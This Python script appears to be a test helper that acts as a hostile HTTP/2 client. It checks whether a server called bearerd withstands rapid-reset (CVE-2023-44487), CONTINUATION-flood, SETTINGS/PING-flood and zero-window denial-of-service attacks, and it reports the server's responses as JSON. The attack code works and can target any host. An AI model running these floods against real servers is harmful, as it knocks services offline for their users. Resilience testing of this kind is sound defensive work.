"""Hostile HTTP/2 peers for tests/interop/http2_hostile.rs, written with the h2 package's
frame layer (hyperframe) so that they can break the rules a well-behaved client keeps.

    h2_hostile.py ATTACK HOST PORT AUTHORITY

prints one JSON object: how many frames the attack sent before bearerd ended the connection
or stopped reading (`stalled`: a send that waited TIMEOUT seconds), the most it would have sent
(`limit`), whether it got a GOAWAY (and its error code), and how many bytes it read. Attacks:

    rapid_reset   HEADERS then RST_STREAM, over and over (CVE-2023-44487)
    continuation  one HEADERS without END_HEADERS, then CONTINUATION frames without end
                  (the 2024 CONTINUATION flood)
    settings      SETTINGS frames without end, never reading the ACKs
    ping          PING frames without end, never reading the answers
    no_read       a window of 0 for every stream, then many requests whose answers can never
                  be sent: bearerd must not hold them all in memory
"""

import json
import socket
import sys
import time

from hyperframe.frame import (
    ContinuationFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)
from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LIMIT = 200_000
# A flood of SETTINGS or PING frames is sent in batches until bearerd stops reading. Its limit
# is far beyond what the kernel's socket buffers on both sides can hold (tcp_rmem's maximum is
# 32 MiB on Debian): if the attacker gets all of it out, bearerd read the flood into memory.
FLOOD_LIMIT = 10_000_000
FLOOD_BATCH = 1_000
TIMEOUT = 6.0
STALL = 3.0


def headers_block(encoder, authority):
    return encoder.encode(
        [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", "/")]
    )


def read_frames(sock, state):
    """Reads what is waiting without blocking; notes a GOAWAY."""
    sock.setblocking(False)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                state["closed"] = True
                break
            state["read"] += len(data)
            state["buffer"] += data
    except (BlockingIOError, InterruptedError):
        pass
    except (ConnectionResetError, BrokenPipeError):
        state["closed"] = True
    finally:
        sock.setblocking(True)
    parse_goaway(state)


def parse_goaway(state):
    buffer = state["buffer"]
    while len(buffer) >= 9:
        length = int.from_bytes(buffer[0:3], "big")
        if len(buffer) < 9 + length:
            break
        kind = buffer[3]
        if kind == 0x7:  # GOAWAY
            payload = buffer[9 : 9 + length]
            state["goaway"] = int.from_bytes(payload[4:8], "big")
        buffer = buffer[9 + length :]
    state["buffer"] = buffer


def attack(kind, host, port, authority):
    sock = socket.create_connection((host, port))
    sock.settimeout(TIMEOUT)
    state = {
        "sent": 0,
        "limit": LIMIT,
        "stalled": False,
        "read": 0,
        "goaway": None,
        "closed": False,
        "buffer": b"",
    }
    encoder = Encoder()
    sock.sendall(PREFACE + SettingsFrame(0).serialize())
    if kind == "no_read":
        # INITIAL_WINDOW_SIZE 0: no stream may send a byte of body until told.
        sock.sendall(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize())
    if kind in ("settings", "ping"):
        flood(kind, sock, state)
        return finish(sock, state)
    started = time.monotonic()
    stream_id = 1
    try:
        if kind == "continuation":
            first = HeadersFrame(1)
            first.data = headers_block(encoder, authority)
            sock.sendall(first.serialize())
            state["sent"] += 1
        while state["sent"] < LIMIT and time.monotonic() - started < TIMEOUT:
            if kind == "rapid_reset":
                frame = HeadersFrame(stream_id)
                frame.data = headers_block(encoder, authority)
                frame.flags.add("END_HEADERS")
                frame.flags.add("END_STREAM")
                data = frame.serialize() + RstStreamFrame(stream_id, error_code=8).serialize()
                stream_id += 2
            elif kind == "continuation":
                frame = ContinuationFrame(1)
                frame.data = b"\x40\x0ax-junk-hdr\x3f" + b"a" * 63
                data = frame.serialize()
            elif kind == "no_read":
                frame = HeadersFrame(stream_id)
                frame.data = headers_block(encoder, authority)
                frame.flags.add("END_HEADERS")
                frame.flags.add("END_STREAM")
                data = frame.serialize()
                stream_id += 2
                if stream_id > 2 * 200:
                    break
            else:
                sys.exit("unknown attack " + kind)
            sock.sendall(data)
            state["sent"] += 1
            if state["sent"] % 100 == 0:
                read_frames(sock, state)
                if state["goaway"] is not None or state["closed"]:
                    break
    except (BrokenPipeError, ConnectionResetError, socket.timeout):
        state["closed"] = True
    finish(sock, state)


def flood(kind, sock, state):
    """Sends SETTINGS or PING frames, never reading the ACKs, until a send waits STALL
    seconds (bearerd stopped reading), the connection ends, or FLOOD_LIMIT is reached."""
    if kind == "settings":
        frame = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})
    else:
        frame = PingFrame(0, opaque_data=b"12345678")
    batch = frame.serialize() * FLOOD_BATCH
    state["limit"] = FLOOD_LIMIT
    sock.settimeout(STALL)
    try:
        while state["sent"] < FLOOD_LIMIT:
            sock.sendall(batch)
            state["sent"] += FLOOD_BATCH
    except socket.timeout:
        state["stalled"] = True
    except (BrokenPipeError, ConnectionResetError):
        state["closed"] = True


def finish(sock, state):
    """Reads what bearerd said in the end and prints the outcome."""
    try:
        sock.settimeout(5.0)
        while not state["closed"]:
            data = sock.recv(65536)
            if not data:
                break
            state["read"] += len(data)
            state["buffer"] += data
            parse_goaway(state)
            if state["goaway"] is not None:
                break
    except (ConnectionResetError, socket.timeout, OSError):
        pass
    sock.close()
    del state["buffer"]
    print(json.dumps(state), flush=True)


if __name__ == "__main__":
    attack(sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4])
